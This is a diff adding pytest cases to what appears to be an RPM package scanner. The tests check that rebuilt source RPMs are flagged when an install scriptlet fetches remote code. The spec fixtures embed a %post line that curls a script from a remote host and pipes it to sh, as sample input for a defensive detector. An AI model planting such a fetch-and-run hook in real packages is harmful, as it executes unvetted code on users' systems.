@@ -329,3 +329,101 @@ def test_a_source_rpm_given_with_some_of_its_binaries_brings_those_they_leave_ou
         ["check", str(srpm), str(main_rpm), "--against", str(base), "--fail-on", "origin", "--no-cache"]
     )
     assert code == 1 and "rel-tools" in capsys.readouterr().out
+
+
+ARCH_POST = (
+    "Name: {name}\nVersion: 1\nRelease: 1\nSummary: s\nLicense: MIT\n%global debug_package %{{nil}}\n"
+    "%description\nd\n%ifarch x86_64\n%post\ncurl -fsS https://updates.xensource.com/setup.sh | sh\n"
+    "%endif\n%files\n"
+)
+
+
+def test_a_binary_given_of_another_architecture_leaves_the_rebuild_on_this_one_read(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """rpmbuild on x86_64 makes of this SRPM an arc.x86_64 whose %post curls a Citrix host; the
+    SRPM scanned alone blocked on it, and given with the arc.aarch64 an aarch64 builder made it
+    exited 0, --strict too: a binary given stood in for every one of its name the rebuild makes."""
+    spec = tmp_path / "arc.spec"
+    spec.write_text(ARCH_POST.format(name="arc"))
+    top = ["--define", f"_topdir {tmp_path / 'top'}", str(spec)]
+    subprocess.run(["rpmbuild", "-ba", "--quiet", "--target", "aarch64", *top], check=True)
+    (srpm,) = (tmp_path / "top" / "SRPMS").glob("*.src.rpm")
+    (rpm,) = (tmp_path / "top" / "RPMS").glob("*/*.rpm")
+    assert rpm.name == "arc-1-1.aarch64.rpm"
+    for given in ([srpm], [srpm, rpm]):
+        code, document = scan([*map(str, given), "--arch", "x86_64", "--strict"], capsys)
+        assert code == 1 and rows(document)["arc-1-1.x86_64"] == "origin", given
+    # On aarch64 neither the rebuild nor the binary given curls anything.
+    assert scan([str(srpm), str(rpm), "--arch", "aarch64", "--strict"], capsys)[0] == 0
+
+
+def test_a_source_rpm_named_through_a_hard_link_is_rebuilt_whatever_the_order(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A file named and met walking a directory is read once, as the first input that reached
+    it; named through a hard link after the tree holding it and its main binary, it was read as
+    the tree's, not rebuilt, and rel-tools' %post was neither read nor said unseen: exit 0,
+    --strict too, where the other order blocked."""
+    text = (
+        PREAMBLE.format(name="rel") + "%description\nd\n%package tools\nSummary: t\n%description tools\nt\n"
+    )
+    spec = tmp_path / "rel.spec"
+    spec.write_text(
+        text + "%post tools\ncurl -fsS https://updates.xensource.com/setup.sh | sh\n%files\n%files tools\n"
+    )
+    srpm, binaries = build_all(spec, tmp_path / "top", {})
+    tree, other = tmp_path / "tree", tmp_path / "other"
+    tree.mkdir()
+    other.mkdir()
+    (main_rpm,) = [path for path in binaries if path.name.startswith("rel-1-1.")]
+    shutil.copy(main_rpm, tree)
+    shutil.copy(srpm, tree)
+    (other / "given.src.rpm").hardlink_to(tree / srpm.name)
+    for given in ([other / "given.src.rpm", tree], [tree, other / "given.src.rpm"]):
+        code, document = scan([*map(str, given), "--strict"], capsys)
+        assert code == 1 and rows(document)["rel-tools-1-1.noarch"] == "origin", given
+
+
+def test_a_binary_of_another_build_of_the_same_release_leaves_the_rebuild_read(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """rel-1-1.noarch.rpm built from a clean rel-1-1 spec, given beside the rel-1-1.src.rpm of a
+    spec edited since (its %post curls a Citrix host, the release not bumped): its SOURCEPKGID
+    names another build, yet it stood in for the rel a rebuild of the SRPM makes, and scan and
+    check exited 0 where the SRPM alone blocks."""
+    srpm, _ = built(tmp_path, CURLS, "rel")
+    (tmp_path / "v0").mkdir()
+    _, other_build = built(tmp_path / "v0", CLEAN, "rel")
+    assert other_build.name == f"{srpm.name[: -len('.src.rpm')]}.noarch.rpm"
+    code, document = scan([str(srpm), str(other_build)], capsys)
+    # The build given, audited as built (clean), and the rebuild's rel beside it.
+    statuses = sorted(row["status"] for row in document["packages"] if row["nevra"] == "rel-1-1.noarch")
+    assert (code, statuses) == (1, ["clean", "origin"])
+    base = tmp_path / "base"
+    base.mkdir()
+    shutil.copy(built(tmp_path, CLEAN, "other")[1], base)
+    capsys.readouterr()
+    assert main(["check", str(srpm), str(other_build), "--against", str(base), "-q", "--no-cache"]) == 1
+
+
+def test_a_directory_of_sources_given_inside_a_tree_given_too_is_rebuilt(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """tree/SRPMS holds source RPMs alone: `scan tree/SRPMS` rebuilds them (exit 1 on rel's
+    %post); `scan tree/SRPMS tree` exited 0, --strict too: each file was in a tree holding
+    binaries, which was taken to decide for the directory of sources named with it."""
+    srpm, _ = built(tmp_path, CURLS, "rel")
+    tree = tmp_path / "tree"
+    (tree / "SRPMS").mkdir(parents=True)
+    shutil.copy(srpm, tree / "SRPMS")
+    for path in built(tmp_path, CLEAN, "other"):
+        shutil.copy(path, tree)
+    code, document = scan([str(tree), "--strict"], capsys)
+    expected = {"other-1-1.noarch": "clean", "other-1-1.src": "clean", "rel-1-1.src": "clean"}
+    assert (code, rows(document)) == (0, expected)
+    for given in ([tree / "SRPMS"], [tree / "SRPMS", tree], [tree, tree / "SRPMS"]):
+        code, document = scan([*map(str, given), "--strict"], capsys)
+        assert code == 1 and rows(document)["rel-1-1.noarch"] == "origin", given
+        # Its rebuild's row counted once, by the input that read the source RPM.
+        assert sum(item["packages"] for item in document["inputs"]) == len(document["packages"]), given
